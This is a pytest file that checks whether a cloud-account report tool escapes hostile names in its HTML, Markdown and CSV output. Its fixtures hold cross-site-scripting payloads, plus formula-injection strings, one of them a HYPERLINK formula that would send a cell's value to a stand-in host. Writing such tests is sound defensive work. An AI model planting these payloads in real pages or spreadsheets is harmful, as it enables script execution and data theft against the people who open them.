"""Names come from the organization, so a hostile one must stay text in every human format."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

HOSTILE = '<script>alert(1)</script>"\' onmouseover="alert(2)'


@pytest.fixture
def hostile_inputs(small, tmp_path: Path) -> str:
    """A hostile account name, OU path, tag value and even file name."""
    account = small["accounts"][1]
    account["name"] = HOSTILE
    account["ou_path"] = f"Root/{HOSTILE}"
    account["regions"][0]["selection"]["tag"]["value"] = HOSTILE
    path = tmp_path / "<img src=x onerror=alert(3)>.json"
    path.write_text(json.dumps(small))
    return str(path)


def test_html_escapes_every_value(report, hostile_inputs) -> None:
    page = report("--input", hostile_inputs, "--format", "html", "--require-vault-lock").out

    assert "alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#x27; onmouseover=&quot;alert(2)" in page
    assert 'onmouseover="' not in page
    assert "<img" not in page and "&lt;img src=x onerror=alert(3)&gt;.json" in page
    assert page.count("<script>") == 1


def test_html_is_one_self_contained_page(report, small, write) -> None:
    page = report("--input", write("m.json", small), "--format", "html").out

    assert page.startswith("<!DOCTYPE html>") and page.endswith("</html>\n")
    assert not re.search(r"\b(src|href)=|@import|url\(|https?://", page)
    assert '<input id="filter" type="search"' in page
    headers = re.findall(r'<th scope="col"><button type="button">([a-z_]+)</button></th>', page)
    assert headers[0] == "account_id" and headers[-2:] == ["findings", "copy_to"]
    assert len(headers) == 15
    assert page.count("<tr class=") == 6


def test_markdown_keeps_hostile_text_literal(report, hostile_inputs) -> None:
    text = report("--input", hostile_inputs, "--require-vault-lock").out

    assert "<script>" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    tables = [block.splitlines() for block in text.split("\n\n") if block.startswith("| ")]
    assert len(tables) >= 3  # summary, findings by kind, compliance by OU
    for table in tables:
        assert {line.count(" | ") for line in table} == {table[0].count(" | ")}


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1", "@x", "\tTAB", "\rCR"]


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_cells_never_start_like_a_formula(report, small, write, name: str) -> None:
    """Spreadsheet formula injection: the account name reaches every cell prefixed with '."""
    small["accounts"][1]["name"] = name
    small["accounts"][1]["ou_path"] = name

    text = report("--input", write("m.json", small), "--format", "csv").out

    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    dev = [row for row in rows if row[0] == "222233334444"]
    assert dev and all(row[1] == "'" + name and row[2] == "'" + name for row in dev)


def test_html_table_cells_are_spreadsheet_safe_too(report, small, write) -> None:
    """Excel opens an HTML table as a sheet: the same guard applies to its cells."""
    small["accounts"][1]["name"] = "=1+2"

    page = report("--input", write("m.json", small), "--format", "html").out

    assert "<td>&#x27;=1+2</td>" in page and "<td>=1+2</td>" not in page
